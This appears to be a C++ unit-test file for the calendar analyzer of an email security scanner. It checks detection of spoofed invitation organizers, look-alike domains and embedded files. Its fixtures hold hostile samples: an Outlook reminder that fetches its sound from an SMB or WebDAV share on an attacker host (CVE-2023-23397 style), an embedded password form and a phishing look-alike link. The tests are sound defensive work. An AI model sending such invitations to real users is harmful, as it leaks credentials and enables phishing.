// calendar: an invitation from outside whose organizer claims the organisation is flagged, the
// genuine shapes of invitations (a colleague's, an attendee's answer, a forward, a scheduling
// service, a list) are not or barely; links inside invitations reach the link analyzers through
// the engine; malformed and oversized calendars are bounded. Invitations are written by hand.
#include <gtest/gtest.h>

#include <algorithm>

#include "analyzers/analyzer_harness.h"
#include "vigie/engine.h"

namespace vigie::analyzers {
namespace {

Config organisation_config() {
  Config config;
  OrganisationConfig& o = config.organisation;
  o.name = "Préfecture de l'Exemple";
  o.protected_domains = {"prefecture-exemple.gouv.fr"};
  o.partner_domains = {"partenaire.example"};
  ProtectedPerson person;
  person.name = "Jeanne Dupont";
  person.addresses = {"jeanne.dupont@prefecture-exemple.gouv.fr"};
  person.personal_addresses = {"jeanne.dupont@laposte.net"};
  person.role = "directrice générale";
  o.people.push_back(person);
  return config;
}

const AnalyzerHarness& harness() {
  static const AnalyzerHarness h("calendar", organisation_config());
  return h;
}

std::string calendar_text(std::string_view method, std::string_view organizer, std::string_view extra = "") {
  std::string out = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Test//Test//EN\r\n";
  if (!method.empty()) out += "METHOD:" + std::string(method) + "\r\n";
  out += "BEGIN:VEVENT\r\nUID:1@test\r\nDTSTART:20250601T090000Z\r\nSUMMARY:Réunion de crise\r\n";
  out += "ORGANIZER;CN=Jeanne Dupont:mailto:" + std::string(organizer) + "\r\n";
  out += "ATTENDEE;CN=Paul Martin:mailto:paul.martin@prefecture-exemple.gouv.fr\r\n";
  out += std::string(extra);
  out += "END:VEVENT\r\nEND:VCALENDAR\r\n";
  return out;
}

// A message as Outlook sends an invitation: text, then the calendar as a text/calendar alternative.
std::string invitation(std::string_view from, const std::string& calendar, std::string_view more_headers = "") {
  return "From: " + std::string(from) + "\nTo: paul.martin@prefecture-exemple.gouv.fr\nSubject: Invitation\n" +
         std::string(more_headers) +
         "MIME-Version: 1.0\nContent-Type: multipart/alternative; boundary=b\n\n"
         "--b\nContent-Type: text/plain\n\nPlease join.\n"
         "--b\nContent-Type: text/calendar; charset=UTF-8; method=REQUEST\n\n" +
         calendar + "\n--b--\n";
}

// The calendar as an attached file, under a type that says nothing.
std::string with_ics(std::string_view from, const std::string& calendar, std::string_view filename = "invite.ics") {
  return "From: " + std::string(from) + "\nTo: paul.martin@prefecture-exemple.gouv.fr\nSubject: Invitation\n"
         "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
         "--b\nContent-Type: text/plain\n\nSee the attached invitation.\n"
         "--b\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename=\"" +
         std::string(filename) + "\"\n\n" + calendar + "\n--b--\n";
}

// The calendar as a file without a name, under a type that says nothing: only its content tells.
std::string unnamed_file(std::string_view from, const std::string& calendar) {
  return "From: " + std::string(from) + "\nTo: paul.martin@prefecture-exemple.gouv.fr\nSubject: Invitation\n"
         "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
         "--b\nContent-Type: text/plain\n\nSee the attached file.\n"
         "--b\nContent-Type: application/octet-stream\nContent-Disposition: attachment\n\n" + calendar + "\n--b--\n";
}

constexpr std::string_view kProtectedOrganizer = "jeanne.dupont@prefecture-exemple.gouv.fr";

TEST(CalendarAnalyzerTest, OutsideInvitationWithAProtectedOrganizerIsSpoofing) {
  const auto run = harness().run(invitation("events@outside.example", calendar_text("REQUEST", kProtectedOrganizer)));
  const Finding* f = AnalyzerHarness::find(run.findings, "CALENDAR_ORGANIZER_SPOOFED");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->analyzer, "calendar");
  EXPECT_EQ(f->confidence, 1.0);
  EXPECT_DOUBLE_EQ(f->score, 9.0);
  ASSERT_GE(f->evidence.size(), 3u);
  EXPECT_EQ(f->evidence[0].field, "calendar:ORGANIZER");
  EXPECT_EQ(f->evidence[0].value,
            "\"Jeanne Dupont\" <jeanne.dupont@prefecture-exemple.gouv.fr> (protected domain)");
  const Object& where = run.objects.at(f->evidence[0].object);
  EXPECT_EQ(where.declared_type, "text/calendar");
  EXPECT_EQ(f->evidence[1].field, "header:From");
  EXPECT_EQ(f->evidence[1].value, "events@outside.example (outside the organisation)");
  EXPECT_EQ(f->evidence[2].value, "REQUEST");
  // The organizer's name is that of the person, but the address is protected: no name finding.
  EXPECT_EQ(AnalyzerHarness::find(run.findings, "CALENDAR_ORGANIZER_NAME_IMPERSONATION"), nullptr);
}

TEST(CalendarAnalyzerTest, AnAttachedIcsIsReadByTheParserAndItsLinksAreTheMessages) {
  const auto run = harness().run(with_ics(
      "events@outside.example",
      calendar_text("REQUEST", kProtectedOrganizer, "URL:https://agenda.outside.example/e/1\r\n")));
  const Finding* f = AnalyzerHarness::find(run.findings, "CALENDAR_ORGANIZER_SPOOFED");
  ASSERT_NE(f, nullptr);
  const Object& ics = run.objects.at(f->evidence[0].object);
  EXPECT_EQ(ics.filename, "invite.ics");
  // Named .ics: the parser reads it like a text/calendar part (what `vigie parse` lists).
  ASSERT_NE(run.message->calendar(ics.part), nullptr);
  const auto urls = run.message->urls();
  ASSERT_EQ(urls.size(), 1u);
  EXPECT_EQ(urls[0].normalized(), "https://agenda.outside.example/e/1");
  EXPECT_EQ(urls[0].source, UrlSource::kCalendarProperty);
  EXPECT_EQ(urls[0].part, ics.part);
  EXPECT_TRUE(run.objects.urls().empty());  // not read a second time by the analyzer
}

// A calendar the parser does not read (no calendar name or type: found by its content): the
// analyzer reads it, and its links join the message's through the object tree.
TEST(CalendarAnalyzerTest, AnUnnamedCalendarsLinksJoinTheMessageThroughTheObjects) {
  const auto run = harness().run(unnamed_file(
      "events@outside.example",
      calendar_text("REQUEST", kProtectedOrganizer, "URL:https://agenda.outside.example/e/1\r\n")));
  const Finding* f = AnalyzerHarness::find(run.findings, "CALENDAR_ORGANIZER_SPOOFED");
  ASSERT_NE(f, nullptr);
  const Object& file = run.objects.at(f->evidence[0].object);
  EXPECT_EQ(file.detected_type, "text/calendar");
  EXPECT_EQ(run.message->calendar(file.part), nullptr);
  ASSERT_EQ(run.objects.urls().size(), 1u);
  EXPECT_EQ(run.objects.urls()[0].normalized(), "https://agenda.outside.example/e/1");
  EXPECT_EQ(run.objects.urls()[0].source, UrlSource::kCalendarProperty);
  EXPECT_EQ(run.objects.urls()[0].part, file.part);
  EXPECT_TRUE(run.message->urls().empty());
}

TEST(CalendarAnalyzerTest, AnUnnamedCalendarIsFoundByItsContent) {
  const std::string raw = "From: events@outside.example\nSubject: x\nMIME-Version: 1.0\n"
                          "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nhi\n"
                          "--b\nContent-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n"
                          "QkVHSU46VkNBTEVOREFSDQpNRVRIT0Q6UkVRVUVTVA0KQkVHSU46VkVWRU5UDQpPUkdBTklaRVI6bWFp\n"
                          "bHRvOmplYW5uZS5kdXBvbnRAcHJlZmVjdHVyZS1leGVtcGxlLmdvdXYuZnINCkVORDpWRVZFTlQNCkVO\n"
                          "RDpWQ0FMRU5EQVINCg==\n--b--\n";
  const auto run = harness().run(raw);
  const Finding* f = AnalyzerHarness::find(run.findings, "CALENDAR_ORGANIZER_SPOOFED");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(run.objects.at(f->evidence[0].object).detected_type, "text/calendar");
}

TEST(CalendarAnalyzerTest, GenuineInvitationsAreNotSpoofing) {
  // A colleague's own invitation, and a colleague forwarding one.
  EXPECT_TRUE(harness().analyze(invitation(kProtectedOrganizer, calendar_text("REQUEST", kProtectedOrganizer))).empty());
  EXPECT_TRUE(harness()
                  .analyze(invitation("paul.martin@prefecture-exemple.gouv.fr",
                                      calendar_text("REQUEST", kProtectedOrganizer)))
                  .empty());
  // An outside attendee accepting a colleague's meeting: the organizer is the recipient.
  for (std::string_view method : {"REPLY", "COUNTER", "REFRESH"}) {
    EXPECT_TRUE(harness()
                    .analyze(invitation("guest@outside.example",
                                        calendar_text(method, kProtectedOrganizer,
                                                      "ATTENDEE;PARTSTAT=ACCEPTED:mailto:guest@outside.example\r\n")))
                    .empty())
        << method;
  }
  // An outside organizer inviting our people.
  EXPECT_TRUE(harness()
                  .analyze(invitation("partner.boss@outside.example", calendar_text("REQUEST", "partner.boss@outside.example")))
                  .empty());
}

TEST(CalendarAnalyzerTest, WhatMakesAnOutsideSenderPlausibleLowersTheConfidence) {
  struct Case {
    std::string raw;
    double confidence;
    std::string_view why;
  };
  const Case cases[] = {
      // An attendee forwarding the organizer's invitation (Outlook's Forward keeps the organizer).
      {invitation("guest@outside.example",
                  calendar_text("REQUEST", kProtectedOrganizer, "ATTENDEE:mailto:Guest@Outside.example\r\n")),
       0.4, "the sender is an attendee: an invitation forwarded by one"},
      // Google Calendar sending for a user whose Google account uses the work address.
      {invitation("\"Jeanne Dupont (Google Agenda)\" <calendar-notification@google.com>",
                  calendar_text("REQUEST", kProtectedOrganizer)),
       0.3, "sent by a scheduling service for its user (google.com)"},
      {invitation("list@lists.outside.example", calendar_text("REQUEST", kProtectedOrganizer),
                  "List-Id: <staff.lists.outside.example>\n"),
       0.3, "relayed by a mailing list (List-Id)"},
      {invitation("someone@partenaire.example", calendar_text("REQUEST", kProtectedOrganizer)), 0.6,
       "the sender is a partner"},
      {with_ics("someone@outside.example", calendar_text("", kProtectedOrganizer)), 0.6,
       "a calendar file without METHOD, not an invitation"},
  };
  for (const Case& c : cases) {
    const std::vector<Finding> findings = harness().analyze(c.raw);
    const Finding* f = AnalyzerHarness::find(findings, "CALENDAR_ORGANIZER_SPOOFED");
    ASSERT_NE(f, nullptr) << c.why;
    EXPECT_DOUBLE_EQ(f->confidence, c.confidence) << c.why;
    EXPECT_EQ(f->evidence.back().field, "context");
    EXPECT_EQ(f->evidence.back().value, c.why);
  }
}

TEST(CalendarAnalyzerTest, AnOrganizerBearingAProtectedPersonsNameFromOutside) {
  const auto findings =
      harness().analyze(invitation("no-reply@events.outside.example", calendar_text("REQUEST", "jd.cabinet@gmail.com")));
  const Finding* f = AnalyzerHarness::find(findings, "CALENDAR_ORGANIZER_NAME_IMPERSONATION");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->confidence, 1.0);
  EXPECT_EQ(f->evidence[0].value, "\"Jeanne Dupont\" <jd.cabinet@gmail.com>");
  EXPECT_EQ(f->evidence[1].value, "Jeanne Dupont (directrice générale)");
  EXPECT_EQ(AnalyzerHarness::find(findings, "CALENDAR_ORGANIZER_SPOOFED"), nullptr);

  // Her own personal mailbox; the From address itself (the impersonation analyzer's to judge);
  // a partner's namesake, at half the confidence.
  EXPECT_TRUE(harness()
                  .analyze(invitation("no-reply@events.outside.example", calendar_text("REQUEST", "jeanne.dupont@laposte.net")))
                  .empty());
  EXPECT_TRUE(harness().analyze(invitation("jd.cabinet@gmail.com", calendar_text("REQUEST", "jd.cabinet@gmail.com"))).empty());
  const auto partner =
      harness().analyze(invitation("no-reply@events.outside.example", calendar_text("REQUEST", "j.dupont@partenaire.example")));
  const Finding* namesake = AnalyzerHarness::find(partner, "CALENDAR_ORGANIZER_NAME_IMPERSONATION");
  ASSERT_NE(namesake, nullptr);
  EXPECT_EQ(namesake->confidence, 0.5);
}

TEST(CalendarAnalyzerTest, TheSameCalendarTwiceIsReadOnce) {
  // Google Calendar: the text/calendar alternative and the same bytes again as invite.ics.
  const std::string calendar = calendar_text("REQUEST", kProtectedOrganizer);
  const std::string raw = "From: events@outside.example\nSubject: x\nMIME-Version: 1.0\n"
                          "Content-Type: multipart/mixed; boundary=m\n\n"
                          "--m\nContent-Type: multipart/alternative; boundary=a\n\n"
                          "--a\nContent-Type: text/plain\n\nhi\n"
                          "--a\nContent-Type: text/calendar; method=REQUEST\n\n" + calendar + "\n--a--\n"
                          "--m\nContent-Type: application/ics; name=invite.ics\n"
                          "Content-Disposition: attachment; filename=invite.ics\n\n" + calendar + "\n--m--\n";
  const auto findings = harness().analyze(raw);
  EXPECT_EQ(std::count_if(findings.begin(), findings.end(),
                          [](const Finding& f) { return f.id == "CALENDAR_ORGANIZER_SPOOFED"; }),
            1);
}

TEST(CalendarAnalyzerTest, InlineFilesBecomeChildObjects) {
  // "<form><input type=password></form>" in base64, carried inside the invitation.
  const auto run = harness().run(with_ics(
      "events@outside.example",
      calendar_text("REQUEST", "boss@outside.example",
                    "ATTACH;FMTTYPE=text/html;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=agenda.html:"
                    "PGZvcm0+PGlucHV0IHR5cGU9cGFzc3dvcmQ+PC9mb3JtPg==\r\n")));
  const auto file = std::find_if(run.objects.begin(), run.objects.end(),
                                 [](const Object& o) { return o.filename == "agenda.html"; });
  ASSERT_NE(file, run.objects.end());
  EXPECT_EQ(file->origin, ObjectOrigin::kEmbedded);
  EXPECT_EQ(file->declared_type, "text/html");
  EXPECT_EQ(file->bytes(), "<form><input type=password></form>");
  EXPECT_EQ(run.objects.path(file->id), "part 2 (invite.ics) > agenda.html");
}

TEST(CalendarAnalyzerTest, AnOversizedOrBrokenCalendarFileIsBoundedAndNoted) {
  Config config = organisation_config();
  config.limits.max_calendar_components = 5;
  const AnalyzerHarness limited("calendar", config);
  std::string many = "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\n";
  for (int i = 0; i < 1000; ++i) many += "BEGIN:VEVENT\r\nORGANIZER:mailto:x@outside.example\r\nEND:VEVENT\r\n";
  many += "END:VCALENDAR\r\n";
  const auto run = limited.run(unnamed_file("events@outside.example", many));
  ASSERT_EQ(run.limits_reached.size(), 1u);
  EXPECT_EQ(run.limits_reached[0].limit, "max_calendar_components");
  EXPECT_EQ(run.limits_reached[0].stage, "calendar");
  EXPECT_EQ(run.limits_reached[0].allowed, 5u);
  EXPECT_EQ(run.limits_reached[0].observed, 6u);
  EXPECT_EQ(run.objects.at(run.limits_reached[0].object).detected_type, "text/calendar");
  // A named .ics is the parser's: the same crossing is a calendar_limit anomaly of its part.
  const auto named = limited.run(with_ics("events@outside.example", many));
  EXPECT_TRUE(named.limits_reached.empty());
  ASSERT_EQ(named.message->anomalies().size(), 1u);
  EXPECT_EQ(named.message->anomalies()[0].kind, AnomalyKind::kCalendarLimit);

  const auto broken = harness().run(unnamed_file("events@outside.example", "BEGIN:VCALENDAR\r\nthis is not\r\n"));
  EXPECT_TRUE(broken.findings.empty());
  const auto ics = std::find_if(broken.objects.begin(), broken.objects.end(),
                                [](const Object& o) { return o.detected_type == "text/calendar"; });
  ASSERT_NE(ics, broken.objects.end());
  ASSERT_EQ(ics->notes.size(), 1u);
  EXPECT_EQ(ics->notes[0].rfind("calendar not fully readable: ", 0), 0u) << ics->notes[0];
}

// ---- Through the engine: the links of an invitation are examined like the body's -------------

Config engine_config() {
  Config config = organisation_config();
  config.organisation.protected_domains.push_back("ministere-exemple.fr");
  return config;
}

const Finding* first(const ScanResult& r, std::string_view id) {
  for (const Finding& f : r.findings) {
    if (f.id == id) return &f;
  }
  return nullptr;
}

TEST(CalendarEngineTest, ALookAlikeLinkInAnInvitationIsFound) {
  const Engine engine{engine_config()};
  const std::string calendar =
      calendar_text("REQUEST", "boss@outside.example",
                    "DESCRIPTION:Ordre du jour : https://ministere-exernple.fr/connexion\\, merci.\r\n");
  for (const std::string& raw : {invitation("boss@outside.example", calendar), with_ics("boss@outside.example", calendar)}) {
    const ScanResult r = engine.scan(std::make_shared<const std::string>(raw), Envelope{});
    const Finding* f = first(r, "LOOKALIKE_ORGANISATION_DOMAIN");
    ASSERT_NE(f, nullptr);
    EXPECT_NE(f->evidence.at(0).value.find("ministere-exernple.fr"), std::string::npos) << f->evidence.at(0).value;
  }
}

TEST(CalendarEngineTest, AReminderSoundOnAFileShareIsAUncLink) {
  // CVE-2023-23397's shape in iCalendar: an alarm whose sound is fetched over SMB.
  const Engine engine{engine_config()};
  const std::string calendar = calendar_text(
      "REQUEST", "boss@outside.example",
      "BEGIN:VALARM\r\nACTION:AUDIO\r\nTRIGGER:-PT5M\r\nATTACH:\\\\203.0.113.9\\share\\ring.wav\r\nEND:VALARM\r\n");
  const ScanResult r = engine.scan(std::make_shared<const std::string>(with_ics("boss@outside.example", calendar)), Envelope{});
  const Finding* f = first(r, "LINK_UNC_PATH");
  ASSERT_NE(f, nullptr);
  EXPECT_NE(f->evidence.at(0).value.find("203.0.113.9"), std::string::npos);
  const Finding* reminder = first(r, "OUTLOOK_REMINDER_UNC");
  ASSERT_NE(reminder, nullptr);
  EXPECT_EQ(reminder->evidence.at(0).field, "calendar:ATTACH");
  EXPECT_NE(reminder->evidence.at(0).value.find("file share on 203.0.113.9"), std::string::npos);
  EXPECT_NE(reminder->evidence.back().value.find("CVE-2023-23397"), std::string::npos);
}

TEST(CalendarTest, AnOutlookReminderPropertyOnAWebDavShareIsReported) {
  // Escaped backslashes of a TEXT value, and the WebDAV form Windows' redirector accepts.
  const std::string calendar = calendar_text(
      "REQUEST", "boss@outside.example",
      "X-MS-OLK-REMINDERFILEPARAMETER:\\\\\\\\files.attacker.example@SSL\\\\DavWWWRoot\\\\ring.wav\r\n");
  const std::vector<Finding> findings = harness().analyze(with_ics("boss@outside.example", calendar));
  const Finding* f = AnalyzerHarness::find(findings, "OUTLOOK_REMINDER_UNC");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.at(0).field, "calendar:X-MS-OLK-REMINDERFILEPARAMETER");
  EXPECT_NE(f->evidence.at(0).value.find("WebDAV share on files.attacker.example"), std::string::npos)
      << f->evidence.at(0).value;
}

TEST(CalendarTest, ALocalReminderSoundAndAnAlarmOutsideValarmAreSilent) {
  const std::string calendar = calendar_text(
      "REQUEST", "boss@outside.example",
      "ATTACH:\\\\203.0.113.9\\share\\agenda.pdf\r\n"  // an event's attachment, not an alarm's
      "BEGIN:VALARM\r\nACTION:AUDIO\r\nTRIGGER:-PT5M\r\nATTACH:file:///C:/Windows/Media/ring.wav\r\nEND:VALARM\r\n"
      "X-MS-OLK-CONFTYPE:0\r\n");
  EXPECT_EQ(AnalyzerHarness::find(harness().analyze(with_ics("boss@outside.example", calendar)), "OUTLOOK_REMINDER_UNC"),
            nullptr);
}

TEST(CalendarEngineTest, AnOutsideInvitationSpoofingTheOrganisationIsWarnedAbout) {
  const Engine engine{engine_config()};
  const ScanResult r = engine.scan(
      std::make_shared<const std::string>(invitation("events@outside.example", calendar_text("REQUEST", kProtectedOrganizer))),
      Envelope{});
  ASSERT_NE(first(r, "CALENDAR_ORGANIZER_SPOOFED"), nullptr);
  EXPECT_GE(r.verdict.action, Action::kWarn);
  EXPECT_TRUE(r.verdict.complete);
}

TEST(CalendarEngineTest, AHugeCalendarPartIsBoundedAndTheVerdictSaysSo) {
  Config config = engine_config();
  config.limits.max_calendar_bytes = 4096;
  const Engine engine{config};
  std::string big = "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n";
  while (big.size() < 100000) big += "DESCRIPTION:padding padding padding padding padding padding\r\n";
  big += "END:VEVENT\r\nEND:VCALENDAR\r\n";
  const ScanResult r = engine.scan(std::make_shared<const std::string>(invitation("a@outside.example", big)), Envelope{});
  EXPECT_FALSE(r.verdict.complete);
  ASSERT_NE(first(r, "PARSE_LIMIT_EXCEEDED"), nullptr);
  EXPECT_NE(first(r, "PARSE_LIMIT_EXCEEDED")->evidence.at(0).value.find("calendar_limit: max_calendar_bytes"),
            std::string::npos);
}

}  // namespace
}  // namespace vigie::analyzers
